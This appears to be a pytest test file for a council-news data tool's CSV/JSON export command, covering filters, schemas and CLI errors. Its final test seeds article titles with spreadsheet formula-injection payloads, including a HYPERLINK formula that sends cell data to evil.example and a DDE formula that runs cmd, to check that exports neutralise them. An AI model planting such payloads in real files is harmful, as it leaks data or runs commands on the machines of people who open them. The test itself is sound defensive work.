"""`councilwatch export`: dated CSV / JSON extracts with a datapackage.json."""

from __future__ import annotations

import csv
import json
import sqlite3
from datetime import date

import pytest
from click.testing import CliRunner

from councilwatch.cli import cli
from councilwatch.db.export_queries import exportable_tables
from councilwatch.export import DEFAULT_TABLES, ExportError, Filters, export_extract

DAY = date(2026, 11, 28)


def read_csv(path):
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_full_extract_describes_every_column(demo_db, tmp_path):
    out = export_extract(demo_db, tmp_path, today=DAY)
    assert out == tmp_path / "councilwatch-extract-2026-11-28"
    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert package["profile"] == "tabular-data-package"
    with sqlite3.connect(demo_db) as conn:
        available = exportable_tables(conn)  # contract_checks once the press contracts exist
        assert [r["name"] for r in package["resources"]] == [
            t for t in DEFAULT_TABLES if t in available
        ]
        for resource in package["resources"]:
            path = out / resource["path"]
            assert path.exists() and resource["format"] == "csv"
            rows = read_csv(path)
            (count,) = conn.execute(f"select count(*) from {resource['name']}").fetchone()
            assert len(rows) == resource["count"] == count
            fields = resource["schema"]["fields"]
            assert [f["name"] for f in fields] == list(rows[0]) if rows else True
            undescribed = [f["name"] for f in fields if not f.get("description")]
            assert not undescribed, f"{resource['name']}: {undescribed}"
    mentions = next(r for r in package["resources"] if r["name"] == "council_mentions")
    types = {f["name"]: f["type"] for f in mentions["schema"]["fields"]}
    assert types["start"] == "integer" and types["code"] == "string"
    assert {"fields": ["code"], "reference": {"resource": "councils", "fields": ["code"]}} in (
        mentions["schema"]["foreignKeys"]
    )
    assert not (out / "raw_pages.csv").exists()


def test_council_filter_keeps_its_articles_and_their_facts(demo_db, tmp_path):
    out = export_extract(demo_db, tmp_path, filters=Filters(councils=["CMD"]), today=DAY)
    articles = read_csv(out / "articles.csv")
    ids = {a["id"] for a in articles}
    with sqlite3.connect(demo_db) as conn:
        expected = {
            str(r[0])
            for r in conn.execute(
                "select distinct article_id from council_mentions where code='CMD'"
            )
        }
        (all_councils,) = conn.execute("select count(*) from councils").fetchone()
    assert ids == expected
    assert {m["article_id"] for m in read_csv(out / "money_mentions.csv")} <= ids
    mentions = read_csv(out / "council_mentions.csv")
    assert {m["code"] for m in mentions} > {"CMD"}  # other councils in those articles kept
    assert len(read_csv(out / "councils.csv")) == all_councils  # reference table whole
    arrangement_ids = {a["id"] for a in read_csv(out / "arrangements.csv")}
    assert {a["arrangement_id"] for a in read_csv(out / "arrangement_councils.csv")} == (
        arrangement_ids
    )


def test_date_and_service_filters_and_json(demo_db, tmp_path):
    filters = Filters(services=["ict"], since="2015-06-01", until="2016-12-31")
    out = export_extract(
        demo_db, tmp_path, fmt="json", tables=["articles", "money_details"], filters=filters
    )
    articles = json.loads((out / "articles.json").read_text(encoding="utf-8"))
    assert articles
    assert all("2015-06-01" <= a["published"][:10] <= "2016-12-31" for a in articles)
    ids = {a["id"] for a in articles}
    money = json.loads((out / "money_details.json").read_text(encoding="utf-8"))
    assert {m["article_id"] for m in money} <= ids
    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert [r["path"] for r in package["resources"]] == ["articles.json", "money_details.json"]
    assert package["resources"][1]["schema"]["fields"][0]["description"]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--table", "nope"], "unknown table nope"),
        (["--table", "raw_pages"], "unknown table raw_pages"),
        (["--since", "2015-13-01"], "is not a date"),
        (["--until", "yesterday"], "is not a date"),
    ],
)
def test_cli_bad_input_is_one_line(demo_db, tmp_path, args, message):
    result = CliRunner().invoke(cli, ["export", "--db", str(demo_db), "-o", str(tmp_path), *args])
    assert result.exit_code == 1
    assert message in result.output and result.output.count("\n") == 1


def test_cli_missing_database(tmp_path):
    result = CliRunner().invoke(cli, ["export", "--db", str(tmp_path / "x.db"), "-o", "out"])
    assert result.exit_code == 66 and "no such database file" in result.output


def test_cli_writes_extract(demo_db, tmp_path):
    result = CliRunner().invoke(
        cli, ["export", "--db", str(demo_db), "-o", str(tmp_path), "--council", "ISL"]
    )
    assert result.exit_code == 0, result.output
    assert "councilwatch-extract-" in result.output
    (out,) = tmp_path.iterdir()
    assert (out / "datapackage.json").exists() and (out / "articles.csv").exists()


def test_library_rejects_unknown_format(demo_db, tmp_path):
    with pytest.raises(ExportError, match="unknown format"):
        export_extract(demo_db, tmp_path, fmt="xlsx")


def test_suppliers_and_contracts_are_in_the_extract(demo_db, tmp_path):
    out = export_extract(demo_db, tmp_path, filters=Filters(councils=["BDF"]), today=DAY)
    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    resources = {r["name"]: r for r in package["resources"]}
    assert {"suppliers", "supplier_mentions", "contracts", "contract_councils"} <= set(resources)
    assert {
        "fields": ["supplier_id"],
        "reference": {"resource": "suppliers", "fields": ["id"]},
    } in (resources["contracts"]["schema"]["foreignKeys"])
    contracts = read_csv(out / "contracts.csv")
    assert [(c["supplier_id"], c["status"], float(c["value_gbp"])) for c in contracts] == [
        ("liberata", "insourced", 25e6)
    ]
    councils = read_csv(out / "contract_councils.csv")
    assert [(c["contract_id"], c["code"]) for c in councils] == [(contracts[0]["id"], "BDF")]
    suppliers = read_csv(out / "suppliers.csv")  # reference tables stay whole
    assert len(suppliers) >= 150
    assert {m["supplier_id"] for m in read_csv(out / "supplier_mentions.csv")} == {"liberata"}


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--council", "Atlantis"], "--council Atlantis: no council has that name or code"),
        (["--council", "Kingston"], "--council Kingston: fits 2 councils"),
        (["--council", "CMD", "--council", "ZZZ"], "--council ZZZ: no council"),
        (["--service", "it"], "--service it: not a service id (choose from "),
    ],
)
def test_unknown_council_or_service_fails_in_one_line(demo_db, tmp_path, args, message):
    result = CliRunner().invoke(cli, ["export", "--db", str(demo_db), "-o", str(tmp_path), *args])
    assert result.exit_code == 1
    assert message in result.output and result.output.count("\n") == 1
    assert list(tmp_path.iterdir()) == []  # nothing written


def test_council_by_name_or_code(demo_db, tmp_path):
    by_code = export_extract(demo_db, tmp_path / "a", filters=Filters(councils=["CMD"]), today=DAY)
    by_name = export_extract(
        demo_db, tmp_path / "b", filters=Filters(councils=["LB Camden"]), today=DAY
    )
    assert read_csv(by_code / "articles.csv") == read_csv(by_name / "articles.csv")
    package = json.loads((by_name / "datapackage.json").read_text(encoding="utf-8"))
    assert package["councilwatch"]["filters"]["council"] == ["CMD"]


def test_export_again_replaces_the_folder_whole(demo_db, tmp_path):
    first = export_extract(demo_db, tmp_path, today=DAY)
    (first / "notes.txt").write_text("mine")
    again = export_extract(demo_db, tmp_path, tables=["services"], today=DAY)
    assert again == first
    assert sorted(p.name for p in again.iterdir()) == ["datapackage.json", "services.csv"]
    assert [p.name for p in tmp_path.iterdir()] == [again.name]  # no work folders left


def test_datapackage_types_enums_and_sources(demo_db, tmp_path):
    out = export_extract(demo_db, tmp_path, today=DAY)
    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    fields = {
        r["name"]: {f["name"]: f for f in r["schema"]["fields"]} for r in package["resources"]
    }
    assert fields["articles"]["published"]["type"] == "datetime"
    assert fields["articles"]["fetched_at"]["type"] == "datetime"
    assert fields["councils"]["start_date"]["type"] == "date"
    assert fields["articles"]["authors"]["type"] == "array"
    assert fields["arrangements"]["partners"]["type"] == "array"
    assert fields["money_mentions"]["role"]["constraints"]["enum"] == [
        "saving", "spend", "contract", "funding", "fine", "other"
    ]  # fmt: skip
    assert fields["money_mentions"]["period"]["constraints"]["enum"] == ["year", "total"]
    assert fields["arrangements"]["status"]["constraints"]["enum"] == [
        "proposed", "agreed", "live", "ended"
    ]  # fmt: skip
    with sqlite3.connect(demo_db) as conn:
        for table, column in (("money_mentions", "role"), ("money_mentions", "period"),
                              ("arrangements", "status")):  # fmt: skip
            values = {r[0] for r in conn.execute(f"select distinct {column} from {table}")}
            allowed = set(fields[table][column]["constraints"]["enum"]) | {None}
            assert values <= allowed, (table, column, values - allowed)
    with sqlite3.connect(demo_db) as conn:
        press = conn.execute(
            "select coalesce(s.title, s.name) from sources s"
            " where s.name in (select source from articles)"
        ).fetchall()
    assert [s["title"] for s in package["sources"][:-1]] == [t for (t,) in press]
    assert package["sources"][-1]["path"].endswith("uk_local_authority_names_and_codes")
    money = read_csv(out / "money_by_council.csv")
    assert {
        "amount_gbp",
        "role",
        "code",
        "council",
        "title",
        "url",
        "published",
        "sentence",
    } <= set(money[0])
    assert any(r["code"] == "CMD" and r["amount_gbp"] == "4000000.0" for r in money)


def test_csv_is_spreadsheet_safe_unless_raw(demo_db, tmp_path):
    import shutil

    db = tmp_path / "hostile.db"
    shutil.copy(demo_db, db)
    titles = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "=cmd|' /C calc'!A0",
              "+1+2", "-2", "@SUM(A1)", "\tTabbed", "\rReturn", "Camden = good"]  # fmt: skip
    with sqlite3.connect(db) as conn:
        for i, title in enumerate(titles):
            conn.execute(
                "insert into articles (url, canonical_url, title, body, content_hash, fetched_at)"
                " values (?, ?, ?, 'b', 'h', '2026-01-01')",
                [f"https://example.org/h{i}", f"https://example.org/h{i}", title],
            )
    safe = export_extract(db, tmp_path / "safe", tables=["articles"], today=DAY)
    got = {r["url"]: r["title"] for r in read_csv(safe / "articles.csv")}
    for i, title in enumerate(titles):
        expected = title if title.startswith("Camden") else "'" + title
        assert got[f"https://example.org/h{i}"] == expected
    raw = export_extract(db, tmp_path / "raw", tables=["articles"], today=DAY, raw_csv=True)
    got = {r["url"]: r["title"] for r in read_csv(raw / "articles.csv")}
    assert [got[f"https://example.org/h{i}"] for i in range(len(titles))] == titles
    result = CliRunner().invoke(
        cli, ["export", "--db", str(db), "-o", str(tmp_path / "cli"), "--table", "articles",
              "--raw-csv"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
